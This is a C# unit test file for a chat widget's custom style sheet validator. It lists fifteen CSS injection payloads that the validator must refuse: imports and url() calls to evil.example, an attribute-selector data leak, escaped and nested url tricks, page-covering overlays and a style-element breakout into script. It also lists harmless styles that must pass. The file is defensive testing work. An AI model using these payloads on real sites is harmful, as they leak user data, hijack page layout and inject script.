using System.Text.Json.Nodes;

namespace Integrations.Providers.ChatWidget.Tests;

/// <summary>Fifteen ways a client's style sheet could call out, break out or cover the page. Each was seen to work, or nearly, in a browser.</summary>
public sealed class CssAttackTests
{
    [Theory]
    [InlineData("import", "@import 'https://evil.example/a.css';")]
    [InlineData("url", ".message{background:url(https://evil.example/a)}")]
    [InlineData("url by attribute", "input[value^=a]{background:url('https://evil.example/a')}")]
    [InlineData("host context", ":host-context([data-user^=a]){color:red}")]
    [InlineData("cover the page", ":host{position:fixed;inset:0}")]
    [InlineData("escaped url in a variable", ".message{--u:\\75rl(https://evil.example/a);background:var(--u)}")]
    [InlineData("string in a variable", ".message{--u:'https://evil.example/a';background:image-set(var(--u) 1x)}")]
    [InlineData("prefixed image-set", ".message{--u:'https://evil.example/a';background:-webkit-image-set(var(--u) 1x)}")]
    [InlineData("font", "@font-face{font-family:x;src:local(a),url(https://evil.example/a)}")]
    [InlineData("font without url", "@font-face{font-family:x}")]
    [InlineData("cross-fade", ".message{background:-webkit-cross-fade(var(--a),var(--b),50%)}")]
    [InlineData("cover by position", ".panel{color:red;position:fixed;inset:0;z-index:2147483647}")]
    [InlineData("property with a comment", ".panel{/*x*/position/*y*/:/*z*/fixed}")]
    [InlineData("end of the style element", "</style><script>alert(1)</script>")]
    [InlineData("nested in an allowed rule", "@media all{@layer a{.message{background:u\\rl(https://evil.example/a)}}}")]
    public void An_attack_is_refused_on_saving(string why, string css)
    {
        var result = ChatWidgetDetails.Validate(new DetailsValidationContext { Json = new JsonObject { ["custom_css"] = css }.ToJsonString() });
        Assert.True(result.Errors is [{ Path: "$.custom_css", Code: "css_not_allowed" }], why);
    }

    [Theory]
    [InlineData(".message{border-radius:4px}")]
    [InlineData("@media (max-width:600px){.panel{font-size:18px}}")]
    [InlineData("@supports (display:grid){.panel{display:grid}}")]
    [InlineData("::part(header){background:linear-gradient(#fff,#eee)}")]
    [InlineData(".launcher{background-position:0 0;box-shadow:0 1px 2px rgb(0 0 0/.2)}")]
    public void Ordinary_style_is_kept(string css) =>
        Assert.True(ChatWidgetDetails.Validate(new DetailsValidationContext { Json = new JsonObject { ["custom_css"] = css }.ToJsonString() }).IsValid);
}
